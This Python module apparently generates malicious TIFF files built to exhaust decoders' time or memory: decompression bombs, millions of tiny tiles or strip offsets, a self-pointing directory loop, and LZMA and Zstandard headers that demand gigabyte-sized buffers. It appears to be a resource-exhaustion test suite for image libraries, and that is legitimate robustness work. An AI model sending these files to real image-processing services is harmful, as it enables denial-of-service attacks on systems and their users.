"""TIFF files that take time or memory."""

import lzma
import struct
import zlib

import numpy as np
from PIL import TiffImagePlugin

from attacks.files.sizes import side_of
from attacks.formats import (
    DEFLATE,
    LONG,
    LZMA,
    LZW,
    ROWS_PER_STRIP,
    SHORT,
    STRIP_OFFSETS,
    STRIP_SIZES,
    TILE_HEIGHT,
    TILE_OFFSETS,
    TILE_SIZES,
    TILE_WIDTH,
    ZSTD,
    encode,
    one_strip,
    picture_tags,
    plain,
    tiff,
)


def _one_tile(side: int, compression: int = LZW) -> bytes:
    tags = picture_tags(100, 100, samples=3, compression=compression)
    tile = {
        TILE_WIDTH: (LONG, side),
        TILE_HEIGHT: (LONG, side),
        TILE_OFFSETS: (LONG, 8),
        TILE_SIZES: (LONG, 2),
    }
    return tiff(tags | tile, b"\x80\0")


def tiff_huge_tile(size: float) -> bytes:
    """TIFF of 100×100 with one tile of 26752×26752."""
    return _one_tile(side_of(26752, size, 16))


def tiff_huge_deflated_tile(size: float) -> bytes:
    """TIFF of 100×100 with one tile of 26752×26752, deflated."""
    return _one_tile(side_of(26752, size, 16), DEFLATE)


def tiff_strip_offsets(size: float) -> bytes:
    """TIFF with ten million strip offsets."""
    tags = picture_tags(100, 100) | {STRIP_SIZES: (LONG, 5000), ROWS_PER_STRIP: (LONG, 50)}
    return tiff(tags | {STRIP_OFFSETS: (SHORT, np.full(int(9_900_000 * size), 8))}, bytes(10_000))


def _tiles(side: int) -> bytes:
    count = side * side
    tiles = {
        TILE_WIDTH: (SHORT, 1),
        TILE_HEIGHT: (SHORT, 1),
        TILE_OFFSETS: (SHORT, np.full(count, 8)),
        TILE_SIZES: (SHORT, np.ones(count)),
    }
    return tiff(picture_tags(side, side) | tiles, bytes(16))


def tiff_one_million_tiles(size: float) -> bytes:
    """TIFF with one million tiles of 1×1."""
    return _tiles(side_of(1000, size))


def tiff_five_million_tiles(size: float) -> bytes:
    """TIFF with 4.9 million tiles of 1×1."""
    return _tiles(side_of(2220, size))


def tiff_strips_over_the_same_bytes(size: float) -> bytes:
    """TIFF with 5,000 strips that share the same 19 million pixels."""
    width, height, count = 4000, max(2, int(4800 * size)), max(2, int(5000 * size))
    strips = {
        STRIP_OFFSETS: (LONG, [8] * count),
        STRIP_SIZES: (LONG, [width * height] * count),
        ROWS_PER_STRIP: (LONG, height - 1),  # for strips as high as the image, Pillow reads one
    }
    return tiff(picture_tags(width, height) | strips, bytes(width * height))


def tiff_loop(size: float) -> bytes:
    """TIFF whose directory points to itself, as the next directory and as its EXIF directory."""
    pixels = bytes(100)
    tags = picture_tags(10, 10) | {34665: (LONG, 108), 330: (LONG, 108)}
    strip = {STRIP_OFFSETS: (LONG, 8), STRIP_SIZES: (LONG, 100), ROWS_PER_STRIP: (LONG, 10)}
    return tiff(tags | strip, pixels, next_at=108)


def tiff_many_tags(size: float) -> bytes:
    """TIFF with 60,000 unknown tags that share the same two million numbers."""
    count = int(60_000 * size)
    data = encode(plain("L", 10, 10), "TIFF")
    values = max(1, int(2_000_000 * size))
    ours = picture_tags(10, 10) | {STRIP_OFFSETS: (LONG, 8), STRIP_SIZES: (LONG, 100)}
    head = tiff(ours, bytes(100))
    entries = head[110 : 110 + 12 * len(ours)]
    more = np.zeros(count, [("tag", "<u2"), ("kind", "<u2"), ("count", "<u4"), ("at", "<u4")])
    more["tag"], more["kind"] = np.arange(5000, 5000 + count), 3
    more["count"], more["at"] = values, 110
    directory = struct.pack("<H", len(ours) + count) + entries + more.tobytes() + bytes(4)
    return head[:108] + directory + bytes(max(0, 110 + 2 * values - len(data)))


def tiff_lzw_bomb(size: float) -> bytes:
    """TIFF of 25 million RGB pixels of one colour, in LZW."""
    side = side_of(5000, size)
    return encode(plain("RGB", side, side), "TIFF", compression="tiff_lzw")


def tiff_cmyk_turned(size: float) -> bytes:
    """TIFF of 25 million CMYK pixels, rotated by EXIF."""
    side = side_of(5000, size)
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    tags[274] = 6
    options = {"compression": "tiff_adobe_deflate", "tiffinfo": tags}
    return encode(plain("CMYK", side, side), "TIFF", **options)


def tiff_of_floats(size: float) -> bytes:
    """TIFF of 25 million 32-bit numbers."""
    side = side_of(5000, size)
    return encode(plain("F", side, side), "TIFF", compression="tiff_adobe_deflate")


def tiff_dictionary(size: float) -> bytes:
    """TIFF in LZMA that claims to need a dictionary of 4 GB."""
    pixels = lzma.compress(bytes(10_000))
    header = bytearray(pixels[12 : 12 + 4 * (pixels[12] + 1) - 4])
    place = header.index(b"\x21\x01") + 2  # after LZMA2 and the size of its properties
    header[place] = 40 if size == 1 else 30  # 4 GB; 128 MB
    block = bytes(header) + struct.pack("<I", zlib.crc32(header))
    pixels = pixels[:12] + block + pixels[12 + len(block) :]
    return one_strip(picture_tags(100, 100, compression=LZMA), pixels)


def tiff_window(size: float) -> bytes:
    """TIFF in Zstandard that claims to need a window of 2 GB."""
    exponent = 21 if size == 1 else 16
    pixels = b"\x28\xb5\x2f\xfd" + bytes([0, exponent << 3])  # RFC 8878, 3.1.1
    pixels += (10_000 << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"  # the last block: one byte
    return one_strip(picture_tags(100, 100, compression=ZSTD), pixels)
